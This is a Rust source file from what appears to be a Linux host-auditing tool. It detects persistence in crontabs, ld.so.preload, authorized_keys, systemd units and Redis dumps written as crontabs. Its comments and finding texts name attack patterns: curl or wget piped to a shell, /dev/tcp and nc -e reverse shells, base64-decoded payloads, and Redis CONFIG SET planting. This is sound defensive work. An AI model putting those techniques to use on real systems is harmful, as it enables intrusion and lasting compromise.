//! Persistence checks: `/etc/ld.so.preload`, crontabs, `authorized_keys` of every account,
//! systemd units running from writable or temporary paths, `rc.local`, shell profiles that
//! fetch and run code, PAM, udev, and the boot, login, network, package-manager and
//! kernel-module hooks of the `hooks` part (SysV init scripts, generators, update-motd.d,
//! NetworkManager/ifupdown, XDG autostart, D-Bus services, ssh rc, logrotate, apt/dnf/yum,
//! modules-load.d, modprobe.d, ld.so.conf.d, GRUB init=, polkit, git, sudo aliases), and the
//! `startup` part: Python start-up hooks (`.pth`, `sitecustomize.py`), dracut/initramfs-tools
//! modules, package maintainer scripts and rpm scriptlets, git hooks in repositories. What is
//! covered and what is not, against PANIX and Elastic's rules: `docs/persistence-coverage.md`.

use crate::accounts::Accounts;
use crate::util::{line_error, list_dir, pb, read_config};
use base64::Engine as _;
use ferret_core::{Control, Evidence, FileKind, Finding, HostRoot, Outcome, Severity};
use sha2::Digest;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

mod hooks;
mod startup;
pub(crate) use hooks::capability_checked_here;
pub use hooks::{
    alias_hijack, apt_conf_commands, grub_init_values, logrotate_scripts, modprobe_command,
    modules_load_names, polkit_allow_all, ROOTKIT_MODULES,
};
pub(crate) use startup::fuzz as fuzz_startup;
pub use startup::{
    pth_import_lines, MAX_GIT_DEPTH, MAX_GIT_DIRS, MAX_GIT_REPOS, MAX_PER_DIR, MAX_VERSIONS,
};

// ---------------------------------------------------------------------------------------------
// Command classification shared by cron, profiles, rc.local and systemd: core's classifier.

/// What a command line does that persistence hunters care about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[cfg_attr(feature = "serde", serde(rename_all = "kebab-case"))]
#[non_exhaustive]
pub enum Suspicion {
    /// Downloads and executes (curl/wget piped to a shell, `sh -c "$(curl ..)"`), or opens a
    /// reverse shell (`/dev/tcp/`, `nc -e`).
    DownloadExec,
    /// Decodes base64 (obfuscated payloads).
    Base64,
    /// Runs a program from /tmp, /var/tmp or /dev/shm.
    TempPath,
}

/// What the shared classifier ([`ferret_core::command::classify`]) says about one shell command
/// (a crontab command field, a script line, an ExecStart value), in the three families
/// harden's finding ids name: download-execute and reverse shells are [`Suspicion::DownloadExec`],
/// decoding (alone or piped into a shell) [`Suspicion::Base64`], a program run from a temporary
/// or dot-only directory [`Suspicion::TempPath`].
fn suspicions(cmd: &[u8]) -> Vec<Suspicion> {
    use ferret_core::command::{classify, CommandKind as K};
    let k = classify(cmd);
    let mut out = Vec::new();
    if k.contains(K::DownloadExecute) || k.contains(K::ReverseShell) {
        out.push(Suspicion::DownloadExec);
    }
    if k.contains(K::Decode) || k.contains(K::DecodeExecute) {
        out.push(Suspicion::Base64);
    }
    if k.contains(K::TempExecution) {
        out.push(Suspicion::TempPath);
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Crontabs.

/// One suspicious crontab entry or script line.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct CronHit {
    /// 1-based line.
    pub line: u64,
    /// The command field.
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
    pub command: Vec<u8>,
    /// What it does.
    pub what: Vec<Suspicion>,
}

/// The two crontab formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum CrontabKind {
    /// `/etc/crontab` and `/etc/cron.d/*`: a user field before the command.
    System,
    /// A user's crontab (`/var/spool/cron/crontabs/*`): no user field.
    User,
}

/// Scans a crontab of the given kind. Returns the suspicious entries and the malformed lines
/// (line numbers).
pub fn scan_crontab(data: &[u8], kind: CrontabKind) -> (Vec<CronHit>, Vec<u64>) {
    let system = kind == CrontabKind::System;
    let mut hits = Vec::new();
    let mut bad = Vec::new();
    for (i, raw) in data.split(|&c| c == b'\n').enumerate() {
        let line = i as u64 + 1;
        let l = raw.trim_ascii();
        if l.is_empty() || l.first() == Some(&b'#') {
            continue;
        }
        // Environment assignment: NAME = value (name before the first blank or '=').
        let first_word_end = l
            .iter()
            .position(u8::is_ascii_whitespace)
            .unwrap_or(l.len());
        if l.get(..first_word_end).is_some_and(|w| w.contains(&b'='))
            || l.iter().position(|&c| c == b'=').is_some_and(|eq| {
                l.get(..eq).is_some_and(|k| {
                    k.trim_ascii()
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
                })
            })
        {
            continue;
        }
        let fields_before = if l.first() == Some(&b'@') { 1 } else { 5 } + usize::from(system);
        let mut rest = l;
        let mut ok = true;
        for _ in 0..fields_before {
            let r = rest.trim_ascii_start();
            if let Some(p) = r.iter().position(u8::is_ascii_whitespace) {
                rest = r.get(p..).unwrap_or_default();
            } else {
                ok = false;
                break;
            }
        }
        let command = rest.trim_ascii();
        if !ok || command.is_empty() {
            bad.push(line);
            continue;
        }
        let what = suspicions(command);
        if !what.is_empty() {
            hits.push(CronHit {
                line,
                command: command.to_vec(),
                what,
            });
        }
    }
    (hits, bad)
}

/// Scans a shell script (cron.daily job, profile, rc.local) line by line.
pub fn scan_script(data: &[u8]) -> Vec<CronHit> {
    data.split(|&c| c == b'\n')
        .enumerate()
        .filter_map(|(i, l)| {
            let t = l.trim_ascii();
            if t.is_empty() || t.first() == Some(&b'#') {
                return None;
            }
            let what = suspicions(t);
            (!what.is_empty()).then(|| CronHit {
                line: i as u64 + 1,
                command: t.to_vec(),
                what,
            })
        })
        .collect()
}

fn cron_finding(file: &Path, h: &CronHit, s: Suspicion, script: bool) -> Finding {
    let (id, title, why, attack2) = match s {
        Suspicion::DownloadExec => (
            "persistence.cron-download-exec",
            "scheduled job downloads and runs code (or opens a shell to the network)",
            "Fetching a script and piping it to a shell on a schedule is the usual way miners and botnets re-infect a cleaned host.",
            Some("T1105"),
        ),
        Suspicion::Base64 => (
            "persistence.cron-base64",
            "scheduled job decodes base64",
            "Base64 in a scheduled job hides the real command from casual review; legitimate jobs rarely need it.",
            Some("T1027"),
        ),
        Suspicion::TempPath => (
            "persistence.cron-temp-path",
            "scheduled job runs a program from a temporary or hidden place",
            "/tmp, /var/tmp and /dev/shm are writable by everyone, and nothing packaged hides in a dot-named file of a system directory; programs run from there are dropped payloads.",
            None,
        ),
    };
    let mut f = Finding::new(id, Severity::High, title, pb(file))
        .with_evidence(Evidence::line(pb(file), h.line).with_excerpt(&h.command))
        .with_detail(format!(
            "{why} ({})",
            if script { "script run by run-parts or atd" } else { "crontab entry" }
        ))
        .with_remediation("Preserve the file, identify the payload it fetches or runs, then remove the entry (and the payload).")
        .with_attack("T1053.003")
        .with_reference("MITRE ATT&CK T1053.003 Scheduled Task/Job: Cron");
    if let Some(a) = attack2 {
        f = f.with_attack(a);
    }
    f
}

/// Crontab locations: (path or dir, is a directory, system crontab format, is a script dir).
const CRON: &[(&str, bool, bool, bool)] = &[
    ("/etc/crontab", false, true, false),
    ("/etc/cron.d", true, true, false),
    ("/etc/cron.hourly", true, false, true),
    ("/etc/cron.daily", true, false, true),
    ("/etc/cron.weekly", true, false, true),
    ("/etc/cron.monthly", true, false, true),
    ("/var/spool/cron/crontabs", true, false, false),
    ("/var/spool/cron", true, false, false),
    // at jobs: shell scripts atd runs once (Debian, then RHEL's spool).
    ("/var/spool/cron/atjobs", true, false, true),
    ("/var/spool/at", true, false, true),
];

/// `persistence.oversized-file`: a persistence file over [`crate::util::CONFIG_CAP`] bytes.
fn oversized_finding(file: &Path, large: crate::util::Large) -> Finding {
    let mut detail = format!(
        "{} bytes (cron and shell files are a few KiB; the cap for a normal read is {} bytes): padding meant to make a scanner skip the file",
        large.size,
        crate::util::CONFIG_CAP
    );
    if large.read < large.size {
        detail = format!("{detail}; {} bytes were read and checked", large.read);
    } else {
        detail.push_str("; it was read whole, line by line, and checked");
    }
    Finding::new(
        "persistence.oversized-file",
        Severity::Medium,
        "a persistence file is padded far past any normal size",
        pb(file),
    )
    .with_evidence(Evidence::file(pb(file)))
    .with_attack("T1027.001")
    .with_attack("T1053.003")
    .with_detail(detail)
    .with_remediation("review the file's meaningful lines (grep -v '^#' | grep .) and who wrote it")
}

fn audit_cron(root: &HostRoot, out: &mut Outcome, control: &Control) {
    for &(p, is_dir, system, script) in CRON {
        let files: Vec<PathBuf> = if is_dir {
            list_dir(root, p, out)
                .into_iter()
                .filter(|f| {
                    // /var/spool/cron holds the crontabs dir (scanned on its own) and atjobs.
                    let name = f
                        .file_name()
                        .map(std::os::unix::ffi::OsStrExt::as_bytes)
                        .unwrap_or_default();
                    !(p == "/var/spool/cron"
                        && root.lstat(f).is_ok_and(|s| s.kind == FileKind::Directory))
                        && name != b".placeholder"
                        && !name.ends_with(b".dpkg-old")
                })
                .collect()
        } else {
            vec![PathBuf::from(p)]
        };
        for f in files {
            let Some((buf, large)) = crate::util::read_config_streamed(root, &f, out, control)
            else {
                continue;
            };
            if let Some(l) = large {
                out.findings.push(oversized_finding(&f, l));
            }
            if ferret_core::rdb::is_rdb(&buf) {
                rdb_cron(&f, &buf, system, script, out);
                continue;
            }
            if script {
                for h in scan_script(&buf) {
                    for s in &h.what {
                        out.findings.push(cron_finding(&f, &h, *s, true));
                    }
                }
            } else {
                let kind = if system {
                    CrontabKind::System
                } else {
                    CrontabKind::User
                };
                let (hits, bad) = scan_crontab(&buf, kind);
                for h in hits {
                    for s in &h.what {
                        out.findings.push(cron_finding(&f, &h, *s, false));
                    }
                }
                for l in bad {
                    out.errors.push(line_error(
                        pb(&f),
                        l,
                        "malformed crontab line (cron ignores it)",
                    ));
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Redis RDB dumps written where a crontab, key file or profile belongs.

/// What an RDB dump was written as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RdbAs {
    Crontab,
    Keys,
    Profile,
}

/// The lines of `buf` that are RDB framing rather than entries (they hold bytes below 0x20
/// other than tab, or above 0x7e): what cron or sshd skips or refuses.
fn binary_lines(buf: &[u8]) -> Vec<u64> {
    buf.split(|&c| c == b'\n')
        .enumerate()
        .filter(|(_, l)| {
            l.iter()
                .any(|&c| (c < 0x20 && c != b'\t' && c != b'\r') || c > 0x7e)
        })
        .map(|(i, _)| i as u64 + 1)
        .collect()
}

/// `persistence.redis-rdb-file`: a persistence file that is a Redis RDB dump (see
/// [`ferret_core::rdb`]). `entries` describes what the dump plants (cron commands, key
/// fingerprints), never key material.
fn rdb_finding(file: &Path, buf: &[u8], kind: RdbAs, entries: &[String]) -> Finding {
    let s = ferret_core::rdb::strings(buf);
    let (what, attack, effect) = match kind {
        RdbAs::Crontab => (
            "crontab",
            "T1053.003",
            "cronie (RHEL, CentOS, Rocky, Alibaba Cloud Linux) skips the binary lines and runs the planted entry as the crontab's owner; Debian's cron refuses a crontab with syntax errors, but the attempt is the same",
        ),
        RdbAs::Keys => (
            "authorized_keys file",
            "T1098.004",
            "sshd skips the binary lines and accepts the planted key",
        ),
        RdbAs::Profile => (
            "shell start-up file",
            "T1546.004",
            "the shell stops at the binary lines or runs what lies between them",
        ),
    };
    let mut f = Finding::new(
        "persistence.redis-rdb-file",
        Severity::Critical,
        format!("a {what} is a Redis database dump (written through an exposed Redis)"),
        pb(file),
    )
    .with_evidence(Evidence::line(pb(file), 1).with_excerpt(buf.get(..9).unwrap_or_default()));
    for e in entries.iter().take(8) {
        f = f.with_evidence(Evidence::file(pb(file)).with_excerpt(e.as_bytes()));
    }
    f.with_detail(format!(
        "The file begins with the RDB magic {} (version {}): Redis wrote it after `CONFIG SET dir` / `CONFIG SET dbfilename` / `SAVE` from a client, the attack on unauthenticated Redis of Kinsing/H2Miner, TeamTNT, WatchDog and 8220 Gang; {effect}. {} string value(s) in the dump{}; planted: {}.",
        ferret_core::escape::escape(buf.get(..9).unwrap_or_default()),
        s.version,
        s.values.len(),
        if s.complete { "" } else { " (the walk stopped at a record it does not decode)" },
        if entries.is_empty() { "nothing recognised".to_owned() } else { entries.join("; ") }
    ))
    .with_remediation("Preserve the file (and Redis's dump.rdb, log and configuration), delete it, secure Redis (exposure.redis-no-auth), rotate what the planted entry could reach.")
    .with_attack("T1190")
    .with_attack(attack)
    .with_reference("MITRE ATT&CK T1190 Exploit Public-Facing Application")
}

/// A crontab or cron script that is an RDB dump: the dump finding, then the entries in it
/// (the raw lines, with their line numbers, and the values the dump compresses, which no line
/// shows), with the binary framing lines left out of the malformed-line errors.
fn rdb_cron(f: &Path, buf: &[u8], system: bool, script: bool, out: &mut Outcome) {
    let kind = if system {
        CrontabKind::System
    } else {
        CrontabKind::User
    };
    let binary = binary_lines(buf);
    let scan = |b: &[u8]| -> (Vec<CronHit>, Vec<u64>) {
        if script {
            (scan_script(b), Vec::new())
        } else {
            scan_crontab(b, kind)
        }
    };
    let (mut hits, bad) = scan(buf);
    hits.retain(|h| !binary.contains(&h.line));
    let mut hidden: Vec<CronHit> = Vec::new();
    for v in ferret_core::rdb::strings(buf).values {
        for h in scan(&v).0 {
            if !hits.iter().chain(&hidden).any(|x| x.command == h.command) {
                hidden.push(h);
            }
        }
    }
    let entries: Vec<String> = hits
        .iter()
        .chain(&hidden)
        .map(|h| ferret_core::escape::escape(&h.command))
        .collect();
    out.findings
        .push(rdb_finding(f, buf, RdbAs::Crontab, &entries));
    for h in &hits {
        for s in &h.what {
            out.findings.push(cron_finding(f, h, *s, script));
        }
    }
    for h in &hidden {
        for s in &h.what {
            let mut c = cron_finding(f, h, *s, script);
            // The entry is inside a compressed value: no line of the file shows it.
            for e in &mut c.evidence {
                e.line = None;
            }
            out.findings.push(c);
        }
    }
    for l in bad.into_iter().filter(|l| !binary.contains(l)) {
        out.errors.push(line_error(
            pb(f),
            l,
            "malformed crontab line (cron ignores it)",
        ));
    }
}

// ---------------------------------------------------------------------------------------------
// ld.so.preload.

fn audit_preload(root: &HostRoot, out: &mut Outcome) {
    let p = Path::new("/etc/ld.so.preload");
    let Some(buf) = read_config(root, p, out) else {
        return;
    };
    for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        if t.is_empty() || t.first() == Some(&b'#') {
            continue;
        }
        for lib in t
            .split(|c| c.is_ascii_whitespace() || *c == b':')
            .filter(|x| !x.is_empty())
        {
            let exists = root.exists(Path::new(std::ffi::OsStr::from_bytes(lib)));
            out.findings.push(
                Finding::new("persistence.ld-so-preload", Severity::Critical, "library preloaded into every process", lib)
                    .with_evidence(Evidence::line(pb(p), i as u64 + 1).with_excerpt(t))
                    .with_detail(format!(
                        "/etc/ld.so.preload makes the dynamic linker load this library into every dynamically linked program, including sshd and login: the classic user-land rootkit hook (hiding files, processes, stealing passwords). The library {}.",
                        if exists { "exists in the image" } else { "is missing (a leftover or a hidden file)" }
                    ))
                    .with_remediation("Preserve the file and the library for analysis, then empty /etc/ld.so.preload (distributions do not ship it) from a trusted shell; assume the host is rooted.")
                    .with_attack("T1574.006")
                    .with_reference("MITRE ATT&CK T1574.006 Dynamic Linker Hijacking"),
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// authorized_keys.

/// One option of an authorized_keys line (`command="..."`, `from="..."`, `no-pty`).
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct KeyOption {
    /// The name, lower-cased (escaped if it is not plain ASCII).
    pub name: String,
    /// The value with its quotes removed; `None` for a flag such as `no-pty`.
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped::opt"))]
    pub value: Option<Vec<u8>>,
}

/// One key of an authorized_keys file. Key material is never kept: only its type, its SHA-256
/// fingerprint and its comment.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct AuthorizedKey {
    /// 1-based line.
    pub line: u64,
    /// The options before the key, in order.
    pub options: Vec<KeyOption>,
    /// Key type (`ssh-ed25519`; escaped if it is not plain ASCII).
    pub key_type: String,
    /// `SHA256:...` fingerprint as `ssh-keygen -l` prints it; `None` when the blob is not
    /// canonical base64 (bad characters or padding, non-zero trailing bits), which sshd refuses.
    pub fingerprint: Option<String>,
    /// Comment.
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
    pub comment: Vec<u8>,
}

impl AuthorizedKey {
    /// The option value of `name`, if present.
    pub fn option(&self, name: &str) -> Option<Option<&[u8]>> {
        self.options
            .iter()
            .find(|o| o.name == name)
            .map(|o| o.value.as_deref())
    }

    /// A printable description without key material: `type fingerprint comment`.
    pub fn describe(&self) -> String {
        format!(
            "{} {} {}",
            self.key_type,
            self.fingerprint.as_deref().unwrap_or("(unparsable key)"),
            ferret_core::escape::escape(&self.comment)
        )
        .trim_end()
        .to_string()
    }
}

fn is_key_type(t: &[u8]) -> bool {
    t.starts_with(b"ssh-")
        || t.starts_with(b"ecdsa-sha2-")
        || t.starts_with(b"sk-ssh-")
        || t.starts_with(b"sk-ecdsa-")
        || t.starts_with(b"webauthn-")
}

/// The SHA-256 fingerprint `ssh-keygen -l` prints for a key blob, when the blob is canonical
/// base64 (standard alphabet, padding, zero trailing bits: what OpenSSH's decoder accepts).
fn fingerprint(blob: &[u8]) -> Option<String> {
    let key = base64::engine::general_purpose::STANDARD
        .decode(blob)
        .ok()?;
    if key.is_empty() {
        return None;
    }
    let digest = sha2::Sha256::digest(&key);
    Some(format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest)
    ))
}

/// Splits the options field off a line: returns (options, rest). Quotes may hold blanks.
fn split_options(l: &[u8]) -> (Vec<KeyOption>, &[u8]) {
    let mut opts = Vec::new();
    let mut i = 0;
    let mut quoted = false;
    let mut start = 0;
    let mut end = l.len();
    while let Some(&c) = l.get(i) {
        if c == b'\\' && quoted {
            i += 2;
            continue;
        }
        if c == b'"' {
            quoted = !quoted;
        } else if !quoted && c.is_ascii_whitespace() {
            end = i;
            break;
        }
        i += 1;
    }
    let field = l.get(..end).unwrap_or_default();
    // Split the field on unquoted commas.
    let mut q = false;
    let mut j = 0;
    while j <= field.len() {
        let c = field.get(j).copied();
        if c == Some(b'"') {
            q = !q;
        }
        if (c == Some(b',') && !q) || c.is_none() {
            let opt = field.get(start..j).unwrap_or_default();
            if !opt.is_empty() {
                let (name, val) = match opt.iter().position(|&c| c == b'=') {
                    Some(p) => {
                        let v = opt.get(p + 1..).unwrap_or_default();
                        let v = v
                            .strip_prefix(b"\"")
                            .map_or(v, |v| v.strip_suffix(b"\"").unwrap_or(v));
                        (opt.get(..p).unwrap_or_default(), Some(v.to_vec()))
                    }
                    None => (opt, None),
                };
                opts.push(KeyOption {
                    name: ferret_core::escape::escape(&name.to_ascii_lowercase()),
                    value: val,
                });
            }
            start = j + 1;
        }
        j += 1;
    }
    (opts, l.get(end..).unwrap_or_default().trim_ascii_start())
}

/// Parses an authorized_keys buffer; bad lines are `Err(line)`.
pub fn parse_authorized_keys(data: &[u8]) -> Vec<Result<AuthorizedKey, u64>> {
    let mut out = Vec::new();
    for (i, raw) in data.split(|&c| c == b'\n').enumerate() {
        let line = i as u64 + 1;
        let l = raw.trim_ascii();
        if l.is_empty() || l.first() == Some(&b'#') {
            continue;
        }
        let first_end = l
            .iter()
            .position(u8::is_ascii_whitespace)
            .unwrap_or(l.len());
        let (options, rest) = if is_key_type(l.get(..first_end).unwrap_or_default()) {
            (Vec::new(), l)
        } else {
            split_options(l)
        };
        let mut it = rest.splitn(3, u8::is_ascii_whitespace);
        let (Some(kt), Some(blob)) = (it.next(), it.next()) else {
            out.push(Err(line));
            continue;
        };
        if !is_key_type(kt) {
            out.push(Err(line));
            continue;
        }
        out.push(Ok(AuthorizedKey {
            line,
            options,
            key_type: ferret_core::escape::escape(kt),
            fingerprint: fingerprint(blob),
            comment: it.next().unwrap_or_default().trim_ascii().to_vec(),
        }));
    }
    out
}

fn expand_akf(pattern: &[u8], user: &[u8], home: &[u8], uid: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = pattern.get(i) {
        if c == b'%' {
            match pattern.get(i + 1) {
                Some(b'h') => out.extend_from_slice(home),
                Some(b'u') => out.extend_from_slice(user),
                Some(b'U') => out.extend_from_slice(uid.to_string().as_bytes()),
                Some(b'%') => out.push(b'%'),
                Some(&o) => {
                    out.push(b'%');
                    out.push(o);
                }
                None => out.push(b'%'),
            }
            i += 2;
            continue;
        }
        out.push(c);
        i += 1;
    }
    if out.first() != Some(&b'/') {
        let mut h = home.to_vec();
        h.push(b'/');
        h.extend_from_slice(&out);
        out = h;
    }
    out
}

fn audit_authorized_keys(
    root: &HostRoot,
    accounts: &Accounts,
    control: &Control,
    out: &mut Outcome,
) {
    // The files sshd reads, from the effective configuration (default .ssh/authorized_keys and
    // .ssh/authorized_keys2). Its problems are the sshd check's to report.
    let patterns: Vec<Vec<u8>> =
        match crate::sshd::SshdConfig::load(root, crate::sshd::DEFAULT_CONFIG, control) {
            Ok(c) => c
                .effective(&crate::sshd::ConnectionContext::new())
                .values("authorizedkeysfile"),
            Err(_) => vec![
                b".ssh/authorized_keys".to_vec(),
                b".ssh/authorized_keys2".to_vec(),
            ],
        };
    // Accounts that read the same files (a UID-0 alias sharing /root with root) are checked
    // once, under all their names: one finding per key and problem.
    let mut groups: Vec<(Vec<Vec<u8>>, Vec<&crate::accounts::User>)> = Vec::new();
    for u in &accounts.users {
        if u.home.first() != Some(&b'/') {
            continue;
        }
        let mut files: Vec<Vec<u8>> = patterns
            .iter()
            .filter(|p| p.as_slice() != b"none")
            .map(|p| expand_akf(p, &u.name, &u.home, u.uid))
            .collect();
        files.dedup();
        match groups.iter_mut().find(|(f, _)| *f == files) {
            Some((_, users)) => {
                if !users.iter().any(|x| x.name == u.name) {
                    users.push(u);
                }
            }
            None => groups.push((files, vec![u])),
        }
    }
    let mut scanned_homes: Vec<&[u8]> = Vec::new();
    for (files, users) in &groups {
        let names: Vec<u8> = users
            .iter()
            .map(|u| u.name.as_slice())
            .collect::<Vec<_>>()
            .join(&b","[..]);
        let root_users: Vec<String> = users
            .iter()
            .filter(|u| u.uid == 0)
            .map(|u| ferret_core::escape::escape(&u.name))
            .collect();
        let mut homes: Vec<&[u8]> = Vec::new();
        for u in users {
            if !homes.contains(&u.home.as_slice()) {
                homes.push(&u.home);
            }
        }
        let mut total = Vec::new();
        for f in files {
            let fp = Path::new(std::ffi::OsStr::from_bytes(f));
            let Some(buf) = read_config(root, fp, out) else {
                continue;
            };
            let unusual_name = f.ends_with(b"authorized_keys2");
            let rdb = ferret_core::rdb::is_rdb(&buf);
            let binary = if rdb { binary_lines(&buf) } else { Vec::new() };
            if rdb {
                let mut planted: Vec<String> = Vec::new();
                for v in std::iter::once(buf.clone()).chain(ferret_core::rdb::strings(&buf).values)
                {
                    for k in parse_authorized_keys(&v).into_iter().flatten() {
                        let d = k.describe();
                        if !planted.contains(&d) {
                            planted.push(d);
                        }
                    }
                }
                out.findings
                    .push(rdb_finding(fp, &buf, RdbAs::Keys, &planted));
            }
            for k in parse_authorized_keys(&buf) {
                let k = match k {
                    Ok(k) => k,
                    Err(line) if binary.contains(&line) => continue,
                    Err(line) => {
                        out.errors
                            .push(line_error(f, line, "unparsable authorized_keys line"));
                        continue;
                    }
                };
                let ev = || Evidence::line(f, k.line).with_excerpt(k.describe());
                let subject = format!("{} {}", ferret_core::escape::escape(&names), k.describe());
                if let Some(cmd) = k.option("command") {
                    out.findings.push(
                        Finding::new("persistence.authorized-keys-forced-command", Severity::Medium, "SSH key with a forced command", subject.as_bytes())
                            .with_evidence(ev())
                            .with_detail(format!("command=\"{}\" runs on every login with this key; attackers use it to keep a backdoor that survives password resets (and legitimate backup/rsync keys use it too).", ferret_core::escape::escape(cmd.unwrap_or_default())))
                            .with_remediation("Confirm who owns this key and what the command does; remove the key if unknown.")
                            .with_attack("T1098.004"),
                    );
                }
                if !root_users.is_empty() && k.option("from").is_none() {
                    out.findings.push(
                        Finding::new("persistence.authorized-keys-root-no-from", Severity::Medium, "root SSH key usable from anywhere", subject.as_bytes())
                            .with_evidence(ev())
                            .with_detail(format!("A key in root's authorized_keys without a from= restriction gives whoever holds it root from any address (UID 0 account(s) reading this file: {}).", root_users.join(", ")))
                            .with_remediation("Remove keys nobody can vouch for; restrict the rest with from=\"admin-net/cidr\" (or disable root login).")
                            .with_attack("T1098.004"),
                    );
                }
                if unusual_name {
                    out.findings.push(
                        Finding::new("persistence.authorized-keys-unusual-file", Severity::High, "SSH key in authorized_keys2", subject.as_bytes())
                            .with_evidence(ev())
                            .with_detail("authorized_keys2 is deprecated but still read by default; keys planted there are missed by reviews of authorized_keys.")
                            .with_remediation("Move legitimate keys to authorized_keys, delete authorized_keys2, and set `AuthorizedKeysFile .ssh/authorized_keys`.")
                            .with_attack("T1098.004"),
                    );
                }
                total.push((f.clone(), k));
            }
        }
        // Key-like files sshd does not read (leftovers or staging).
        for home in &homes {
            if scanned_homes.contains(home) {
                continue;
            }
            scanned_homes.push(home);
            let mut ssh_dir = home.to_vec();
            ssh_dir.extend_from_slice(b"/.ssh");
            let ssh_dir_p = Path::new(std::ffi::OsStr::from_bytes(&ssh_dir));
            if let Ok(entries) = root.read_dir(ssh_dir_p) {
                for e in entries {
                    let name = e.name.as_bytes();
                    let full = ssh_dir_p.join(&e.name);
                    if name.starts_with(b"authorized_keys")
                        && !files.iter().any(|f| f.as_slice() == pb(&full))
                    {
                        out.findings.push(
                        Finding::new("persistence.authorized-keys-unusual-file", Severity::Medium, "authorized_keys-like file sshd does not read", pb(&full))
                            .with_evidence(Evidence::file(pb(&full)))
                            .with_detail("The name looks like an authorized_keys file but AuthorizedKeysFile does not name it: a backup, a staging copy, or a key waiting to be swapped in.")
                            .with_remediation("Inspect it and remove it if not needed.")
                            .with_attack("T1098.004"),
                    );
                    }
                }
            }
        }
        if !total.is_empty() {
            let mut f = Finding::new(
                "persistence.authorized-keys-count",
                Severity::Info,
                format!("{} authorized SSH key(s)", total.len()),
                &names,
            )
            .with_detail(
                total
                    .iter()
                    .map(|(_, k)| k.describe())
                    .collect::<Vec<_>>()
                    .join("; "),
            )
            .with_attack("T1098.004");
            for (file, k) in &total {
                f = f.with_evidence(Evidence::line(file, k.line).with_excerpt(k.describe()));
            }
            out.findings.push(f);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// systemd units.

/// Unit directories scanned for Exec lines.
pub const UNIT_DIRS: &[&str] = &[
    "/etc/systemd/system",
    "/run/systemd/system",
    "/usr/local/lib/systemd/system",
    "/usr/lib/systemd/system",
    "/lib/systemd/system",
    "/etc/systemd/user",
    "/usr/lib/systemd/user",
];

const EXEC_KEYS: &[&[u8]] = &[
    b"ExecStart",
    b"ExecStartPre",
    b"ExecStartPost",
    b"ExecStop",
    b"ExecStopPost",
    b"ExecReload",
    b"ExecCondition",
];

/// World-writable temporary directories (a unit's program there is writable by anyone).
const TEMP_DIRS: &[&[u8]] = &[b"/tmp/", b"/var/tmp/", b"/dev/shm/"];

fn writable_reason(root: &HostRoot, prog: &[u8]) -> Option<String> {
    if TEMP_DIRS.iter().any(|t| prog.starts_with(t)) {
        return Some("it lies in a world-writable temporary directory".into());
    }
    if prog.starts_with(b"/home/") {
        return Some("it lies in a user's home directory".into());
    }
    let p = Path::new(std::ffi::OsStr::from_bytes(prog));
    if let Ok(st) = root.lstat(p) {
        if st.kind != FileKind::Symlink && st.is_world_writable() {
            return Some(format!(
                "the program is world-writable (mode {:04o})",
                st.mode & 0o7777
            ));
        }
    }
    for d in p.ancestors().skip(1) {
        if let Ok(st) = root.lstat(d) {
            if st.kind == FileKind::Directory && st.is_world_writable() && !st.is_sticky() {
                return Some(format!("{} is world-writable", d.display()));
            }
        }
    }
    None
}

fn scan_unit(root: &HostRoot, file: &Path, buf: &[u8], out: &mut Outcome) {
    for (i, raw) in buf.split(|&c| c == b'\n').enumerate() {
        let l = raw.trim_ascii();
        let Some(eq) = l.iter().position(|&c| c == b'=') else {
            continue;
        };
        let key = l.get(..eq).unwrap_or_default().trim_ascii();
        if !EXEC_KEYS.contains(&key) {
            continue;
        }
        let val = l.get(eq + 1..).unwrap_or_default().trim_ascii();
        let cmd = val.trim_start_matches_compat();
        let prog = cmd
            .split(u8::is_ascii_whitespace)
            .next()
            .unwrap_or_default();
        let mut reasons = Vec::new();
        if let Some(r) = writable_reason(root, prog) {
            reasons.push(r);
        }
        let what = suspicions(cmd);
        if what.contains(&Suspicion::DownloadExec) {
            reasons.push("the command downloads and runs code".into());
        }
        if what.contains(&Suspicion::Base64) {
            reasons.push("the command decodes base64".into());
        }
        if what.contains(&Suspicion::TempPath) && !reasons.iter().any(|r| r.contains("temporary")) {
            reasons.push("it runs a program from a temporary or hidden place".into());
        }
        if reasons.is_empty() {
            continue;
        }
        out.findings.push(
            Finding::new("persistence.systemd-writable-exec", Severity::High, "systemd unit runs code from a writable or temporary location", pb(file))
                .with_evidence(Evidence::line(pb(file), i as u64 + 1).with_excerpt(l))
                .with_detail(format!("{}: whoever can write there controls what this unit runs (often as root, at every boot or timer tick).", reasons.join("; ")))
                .with_remediation("Preserve the unit and the program; `systemctl disable --now` the unit if it is not legitimate, and move legitimate programs to a root-owned directory.")
                .with_attack("T1543.002")
                .with_reference("MITRE ATT&CK T1543.002 Create or Modify System Process: Systemd Service"),
        );
    }
}

trait TrimExecPrefix {
    fn trim_start_matches_compat(&self) -> &[u8];
}
impl TrimExecPrefix for [u8] {
    /// Drops systemd's special executable prefixes (`@`, `-`, `:`, `+`, `!`).
    fn trim_start_matches_compat(&self) -> &[u8] {
        let n = self
            .iter()
            .take_while(|c| matches!(c, b'@' | b'-' | b':' | b'+' | b'!'))
            .count();
